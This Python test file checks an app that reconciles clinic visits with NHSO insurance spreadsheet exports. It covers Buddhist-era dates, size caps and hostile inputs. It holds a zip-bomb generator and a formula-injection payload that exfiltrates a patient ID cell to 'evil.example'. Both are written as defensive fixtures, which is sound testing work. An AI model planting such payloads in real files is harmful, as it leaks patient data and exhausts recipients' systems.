"""Reconcile with hostile or odd NHSO files (issue 18 items 7 and 8)."""

from __future__ import annotations

import datetime as dt
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from app.authen.visit_log import OK
from app.main import main
from app.reports import reconcile as reconcile_module
from app.reports.errors import NhsoFileRefused
from app.reports.reconcile import parse_service_time, read_nhso_export, reconcile
from app.reports.visits import default_log_path, open_visits
from app.settings.model import Settings, save_settings
from tests.reports.conftest import VisitLogWriter
from tests.support.nhso_export import OUR_HCODE, NhsoCode, made_up_cid, pp_code, write_nhso_export

HEADERS = ["รหัสหน่วย", "เลขบัตร", "ชื่อ-สกุล", "CLAIM CODE", "วันที่เข้ารับบริการ"]
P = [made_up_cid(n) for n in range(40, 50)]


def _nhso_file(path: Path, dates: list[object]) -> Path:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADERS)
    for n, when in enumerate(dates):
        ws.append([OUR_HCODE, P[n], '=HYPERLINK("http://x")', pp_code(n), when])
    wb.save(path)
    return path


@pytest.mark.parametrize(
    "value",
    [
        dt.datetime(2569, 11, 28, 9, 0),  # a date cell typed with the BE year
        dt.date(2569, 11, 28),
        "2569-11-28 09:00:00",  # ISO text, BE year
        "2569-11-28",
        "28/11/2569 09:00:00",  # NHSO's own text
        "28/11/2026 09:00",  # dd/mm/yyyy, Christian era
        "2026-11-28T09:00:00",
    ],
)
def test_every_form_of_nhso_date(value: object) -> None:
    parsed = parse_service_time(value)
    assert parsed is not None and parsed.date() == dt.date(2026, 11, 28)


@pytest.mark.parametrize("value", ["32/13/2569", "ไม่ทราบ", dt.datetime(9999, 1, 1), "1900-01-01"])
def test_a_date_no_one_could_mean_is_unreadable(value: object) -> None:
    assert parse_service_time(value) is None


def test_buddhist_era_dates_match_our_visits(visit_log: VisitLogWriter, tmp_path: Path) -> None:
    forms: list[object] = [
        dt.datetime(2569, 11, 28, 9, 0),
        "2569-11-28 09:00:00",
        "28/11/2569 09:00:00",
        "28/11/2026 09:00",
    ]
    for n in range(len(forms)):
        visit_log.add(dt.datetime(2026, 11, 28, 9, n), OK, pid=P[n], claim_code=pp_code(n))
    export = read_nhso_export(_nhso_file(tmp_path / "nhso.xlsx", forms))
    assert export.period == (dt.date(2026, 11, 28), dt.date(2026, 11, 28))
    with open_visits(default_log_path(), *(export.period or (None, None))) as visits:
        result = reconcile(export.rows, visits.rows, OUR_HCODE, export.period)
    assert result.matched == 4 and result.nhso_only == [] and result.not_in_nhso == []


def test_an_unreadable_date_is_counted_and_shown_not_imported(
    visit_log: VisitLogWriter, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    save_settings(Settings(hcode=OUR_HCODE))
    visit_log.add(dt.datetime(2026, 11, 28, 9), OK, pid=P[0], claim_code=pp_code(0))
    path = _nhso_file(
        tmp_path / "nhso.xlsx",
        ["28/11/2569 09:00:00", "31/02/2569", "ไม่ทราบ", dt.datetime(9000, 11, 28)],
    )
    export = read_nhso_export(path)
    assert (len(export.rows), export.skipped, export.bad_dates) == (1, 3, 3)
    assert main(["reconcile", "--json", str(path)]) == 0
    printed = capsys.readouterr()
    assert '"nhso_only": []' in printed.out
    assert "3 row(s) have a service date that cannot be read" in printed.err


def _bomb(path: Path, unpacked: int) -> Path:
    """A valid NHSO file plus shared strings that unpack to `unpacked` bytes."""
    write_nhso_export(path, [NhsoCode(P[0], pp_code(1), dt.datetime(2026, 11, 28, 9))])
    piece = b"<si><t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</t></si>" * 16384
    with (
        zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as member,
    ):
        member.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
        for _ in range(unpacked // len(piece)):
            member.write(piece)
        member.write(b"</sst>")
    return path


def test_a_zip_bomb_is_refused_before_parsing(
    app_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    save_settings(Settings(hcode=OUR_HCODE))
    path = _bomb(tmp_path / "bomb.xlsx", 260 * 2**20)
    assert path.stat().st_size < 2 * 2**20
    started = time.monotonic()
    assert main(["reconcile", str(path)]) == 65
    assert time.monotonic() - started < 5
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "bomb.xlsx" in err and "unpack" in err


def test_a_highly_packed_part_is_refused(tmp_path: Path) -> None:
    path = _bomb(tmp_path / "packed.xlsx", 20 * 2**20)
    with pytest.raises(NhsoFileRefused, match="packed"):
        read_nhso_export(path)


def test_rows_are_capped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reconcile_module, "MAX_ROWS", 3)
    path = _nhso_file(tmp_path / "many.xlsx", ["28/11/2569 09:00:00"] * 5)
    with pytest.raises(NhsoFileRefused, match="more than 3 rows"):
        read_nhso_export(path)
    assert len(read_nhso_export(_nhso_file(tmp_path / "few.xlsx", ["28/11/2569"] * 3)).rows) == 3


def test_a_hostile_name_in_nhsos_file_stays_text_after_import(
    visit_log: VisitLogWriter, tmp_path: Path
) -> None:
    """A report whose name cell is the text `=HYPERLINK(…)`: imported as NHSO's code, then
    exported, it is a text cell, never a live link (issue 18 item 5)."""
    from app.reports.common import row_values
    from app.verify.day import import_nhso_rows

    hostile = '=HYPERLINK("http://evil.example/?cid="&C2,"เปิด")'
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADERS)
    ws.append(row_values(ws, [OUR_HCODE, P[0], hostile, pp_code(7), "28/11/2569 09:00:00"]))
    path = tmp_path / "nhso.xlsx"
    wb.save(path)
    export = read_nhso_export(path)
    assert [r.patient_name for r in export.rows] == [hostile]
    assert import_nhso_rows(visit_log.log, export.rows) == 1
    out = tmp_path / "visits.xlsx"
    assert main(["export", "--from", "2026-11-28", "--to", "2026-11-28", "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml for xml in sheets)
    from openpyxl import load_workbook

    assert load_workbook(out).worksheets[0].cell(row=2, column=4).value == hostile
